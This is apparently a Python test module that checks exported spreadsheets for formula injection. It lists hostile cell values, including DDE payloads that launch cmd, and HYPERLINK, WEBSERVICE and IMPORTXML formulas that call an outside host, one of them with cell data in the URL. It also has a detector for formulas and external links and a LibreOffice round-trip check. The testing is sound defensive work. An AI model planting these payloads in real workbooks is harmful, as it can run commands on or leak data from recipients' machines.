"""What a partner could write in the hope that somebody's Excel calculates it, and how to see whether it would."""

from __future__ import annotations

import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

FORMULAS = {
    "sum": "=1+1",
    "command": "+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "function": "@SUM(1)",
    "tab": "\t=1",
    "carriage return": "x\r=1",
    "link": '=HYPERLINK("http://example.nl/?x="&A1,"klik")',
    "data exchange": '=DDE("cmd";"/C calc";"!A0")',
    "data exchange by command": "=cmd|'/C calc'!A0",
    "import": '=IMPORTXML("http://example.nl","//a")',
    "full width": "＝1+1",
    "leading blanks": "   =1+1",
    "apostrophe": "'=1+1",
    "array": "{=1+1}",
    "web service": '=WEBSERVICE("http://example.nl")',
}


def formula_cells(path: Path) -> list[str]:
    """The names of the parts of a workbook that hold a formula, a link outside, or a connection."""
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name).decode("utf-8", "replace") for name in archive.namelist()}
    outside = re.compile(
        r"<(?:\w+:)?f[ >/]|<ddeLink|<externalReference|<definedName[^>]*>[^<]*\||TargetMode=\"External\""
    )
    return [name for name, text in parts.items() if outside.search(text)]


def through_libreoffice(path: Path, folder: Path) -> Workbook:
    """The workbook as LibreOffice opens it, calculates it and saves it; skips where there is no LibreOffice."""
    office = shutil.which("soffice")
    if office is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    command = [
        office,
        f"-env:UserInstallation=file://{folder}/profile",
        "--headless",
        "--convert-to",
        "xlsx:Calc MS Excel 2007 XML",
    ]
    subprocess.run([*command, "--outdir", folder / "saved", path], check=True, capture_output=True, timeout=200)
    return load_workbook(folder / "saved" / path.with_suffix(".xlsx").name)


def texts_of(book: Workbook) -> set[str]:
    """Every text in the workbook; fails on a formula."""
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [(cell.coordinate, cell.value) for cell in cells if cell.data_type == "f"] == []
    return {plain(cell.value) for cell in cells if isinstance(cell.value, str)}


def plain(text: str) -> str:
    """A text without the white space that readers and writers of workbooks treat differently."""
    return " ".join(text.replace("_x000D_", " ").split())
